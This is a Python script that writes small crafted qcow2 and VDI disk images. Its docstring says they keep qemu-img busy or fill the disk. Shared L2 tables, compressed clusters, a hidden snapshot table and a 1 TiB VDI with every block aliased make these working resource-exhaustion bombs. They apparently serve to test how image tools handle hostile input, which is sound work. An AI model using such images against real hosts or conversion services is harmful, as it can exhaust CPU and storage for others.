#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes images into the current folder that are small and would keep qemu-img busy or fill the disk."""
import struct
import subprocess

CLUSTER = 1 << 16
SIZE = 7 << 40
L1 = SIZE // (512 << 20)
L1_CLUSTERS = -(-L1 * 8 // CLUSTER)
FREE = 3 + L1_CLUSTERS  # behind header, refcount table, refcount block, L1


def qcow2(name, clusters, tables, l1, snapshots=b""):
    """`tables` L2 tables lie at FREE; l1 lists which of them the L1 names; every entry is one compressed cluster."""
    image = bytearray(clusters * CLUSTER)
    head = struct.pack(">4sIQIIQIIQQIIQ", b"QFI\xfb", 3, 0, 0, 16, SIZE, 0, L1, 3 * CLUSTER, CLUSTER, 1,
                       1 if snapshots else 0, (clusters - 1) * CLUSTER if snapshots else 0)
    image[:len(head) + 32] = head + struct.pack(">QQQII", 0, 0, 0, 4, 104)
    struct.pack_into(">Q", image, CLUSTER, 2 * CLUSTER)
    struct.pack_into(f">{clusters}H", image, 2 * CLUSTER, *[1] * clusters)
    for i, table in enumerate(l1):
        struct.pack_into(">Q", image, 3 * CLUSTER + 8 * i, (FREE + table) * CLUSTER | 1 << 63)
    data = (FREE + tables) * CLUSTER | 1 << 62
    for table in range(tables):
        struct.pack_into(">8192Q", image, (FREE + table) * CLUSTER, *[data] * 8192)
    image[(clusters - 1) * CLUSTER:(clusters - 1) * CLUSTER + len(snapshots)] = snapshots
    with open(name, "wb") as f:
        f.write(image)


def vdi(name):
    """1 TiB in which each block is the same one."""
    subprocess.run(["qemu-img", "create", "-q", "-f", "vdi", name, "1T"], check=True)
    with open(name, "r+b") as f:
        image = bytearray(f.read())
        blocks_at, data_at = struct.unpack_from("<II", image, 0x154)
        image[blocks_at:data_at] = bytes(data_at - blocks_at)
        struct.pack_into("<I", image, 0x184, 1)
        f.seek(0)
        f.write(image[:data_at].ljust(data_at, b"\0") + b"kiln" * (1 << 18))


qcow2("shared.qcow2", FREE + 2, 1, [0] * L1)
qcow2("full.qcow2", FREE + 101, 100, range(100))
# the snapshot's L1 is the one of shared.qcow2's kind, behind an active one that is fine
snap = struct.pack(">QIHHIIQII", FREE * CLUSTER, 8192, 0, 0, 0, 0, 0, 0, 0)
qcow2("snapshot.qcow2", FREE + 3, 1, [], snap)
vdi("bomb.vdi")
